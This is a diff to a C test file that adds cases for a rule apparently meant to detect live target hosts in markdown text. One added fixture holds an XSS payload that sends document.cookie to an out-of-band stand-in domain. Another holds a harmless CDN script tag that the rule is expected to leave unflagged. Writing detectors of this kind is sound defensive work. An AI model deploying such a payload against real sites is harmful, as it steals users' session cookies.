@@ -1535,6 +1535,17 @@ test_homepage_by_structure(void)
         T_EQ_INT(count_rule(found[i], "live_target", NULL) > 0, 1);
     for (size_t i = 0; clean[i]; i++)
         T_EQ_INT(count_rule(clean[i], "live_target", NULL), 0);
+    /* a scheme-relative URL in an injected script, not in a page's script tag */
+    T_EQ_INT(
+        count_rule("# XSS\n\n```\n<svg/onload=fetch(`//oob.fict-lab.cn/?c=`+document.cookie)>\n"
+                   "```\n",
+                   "live_target.host", NULL),
+        1);
+    T_EQ_INT(
+        count_rule("# x\n\n```html\n<script src=\"//cdn.fict-static.com/jquery.js\"></script>\n"
+                   "```\n",
+                   "live_target", NULL),
+        0);
     /* "We notified the following organisations: X (x.org)" */
     T_EQ_INT(count_rule("We notified the following organisations: Fict Credit Union "
                         "(fict-cu.org).\n",
